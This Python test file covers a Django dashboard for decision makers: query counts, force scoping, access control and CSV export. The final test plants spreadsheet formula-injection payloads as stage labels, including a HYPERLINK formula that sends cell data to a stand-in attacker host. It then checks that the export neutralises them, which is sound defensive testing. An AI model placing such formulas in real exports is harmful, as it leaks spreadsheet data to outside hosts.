"""The decision maker's dashboard: one query per figure, force-scoped, and the same as CSV."""

from __future__ import annotations

import csv as csvlib
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from tests import factories
from webapp.cases import services
from webapp.cases.models import Case
from webapp.cases.timers import timers_sweep
from webapp.reports import selectors

pytestmark = pytest.mark.django_db
T0 = datetime(2026, 5, 4, 9, 0, tzinfo=UTC)


@pytest.fixture
def world():
    process = factories.version("csods", factories.CSODS)
    hrt = factories.force(process=process)
    war = factories.force("WAR", "Warwickshire", process=process)
    people = {role: factories.officer(role, hrt, role) for role in
              ("contact_handler", "case_officer", "decision_maker")}
    other = factories.officer("war.contact", war, "contact_handler")
    with time_machine.travel(T0, tick=False) as clock:
        cases = [services.case_start(user=people["contact_handler"],
                                     data=factories.sample("enquiry")) for _ in range(3)]
        services.case_start(user=other, data=factories.sample("enquiry"))
        task = cases[0].tasks.get(bpmn_id="ut_initial_checks")
        clock.shift(timedelta(hours=2))
        services.task_complete(user=people["case_officer"], task_id=task.pk,
                               data=factories.sample("initial_checks"))
        clock.shift(timedelta(hours=30))
        timers_sweep()
    return hrt, people


def test_each_figure_is_one_query_and_counts_only_the_force(world):
    hrt, _ = world
    now = T0 + timedelta(hours=33)
    for build in (selectors.open_by_stage, lambda f: selectors.due_this_week(f, now),
                  lambda f: selectors.breaches_per_month(f, now),
                  lambda f: selectors.met_rate(f, now)):
        with CaptureQueriesContext(connection) as queries:
            build(hrt)
        assert len(queries) == 1
    # the returns read the cases' versions first (each declares how its returns are counted),
    # then count every category in one query, however many categories and versions
    with CaptureQueriesContext(connection) as queries:
        selectors.returns(hrt, now)
    assert len(queries) == 2  # noqa: PLR2004
    stages = dict(selectors.open_by_stage(hrt).rows)
    assert stages == {"1. Enquiry and initial checks": 2, "2. Verification interview": 1}
    assert dict(selectors.returns(hrt, now).rows) == {
        "Applications": 3, "Applications about a registered sex offender": 0, "Disclosures": 0}
    breaches = {month: n for month, n, _ in selectors.breaches_per_month(hrt, now).rows if n}
    assert breaches == {"May 2026": 2}
    met = selectors.met_rate(hrt, now).rows
    assert met == [("Initial checks", 100, 1, 1)]


def test_dashboard_page_and_csv_for_decision_makers_only(world):
    _, people = world
    dm = Client()
    dm.force_login(people["decision_maker"])
    with time_machine.travel(T0 + timedelta(hours=33), tick=False):
        page = dm.get("/dashboard/")
        csv = dm.get("/dashboard/stages.csv")
    assert page.status_code == 200 and b"Open cases by stage" in page.content
    assert csv["Content-Type"].startswith("text/csv")
    assert csv.content.decode().splitlines() == [
        "Stage,Open cases", "1. Enquiry and initial checks,2", "2. Verification interview,1"]
    officer = Client()
    officer.force_login(people["case_officer"])
    assert officer.get("/dashboard/").status_code == 404


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(world):
    # given: a stage label from a hostile diagram, and other formula starters
    hrt, people = world
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    cases = list(Case.objects.filter(force=hrt, status="open").order_by("pk"))
    for case, label in zip(cases, [hyperlink, "@SUM(A1)", "\t=1"], strict=True):
        Case.objects.filter(pk=case.pk).update(stage=label)
    dm = Client()
    dm.force_login(people["decision_maker"])

    # when
    with time_machine.travel(T0 + timedelta(hours=33), tick=False):
        csv = dm.get("/dashboard/stages.csv")

    # then: every cell starting with a formula character is prefixed with a quote
    rows = list(csvlib.reader(io.StringIO(csv.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert {"'" + hyperlink, "'@SUM(A1)", "'\t=1"} <= set(cells)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)

